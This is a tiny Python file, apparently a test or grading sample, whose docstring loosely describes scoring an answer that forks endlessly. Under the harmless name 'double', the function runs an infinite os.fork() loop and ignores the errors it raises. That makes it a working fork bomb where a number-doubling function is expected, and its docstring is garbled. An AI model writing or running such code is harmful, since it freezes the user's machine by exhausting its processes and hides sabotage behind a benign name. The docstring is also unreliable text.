"""Forks without end in an answer, each child too; the two right answers besides deserve 6."""

# %% double
import os


def double(x):
    while True:
        try:
            os.fork()
        except OSError:
            pass
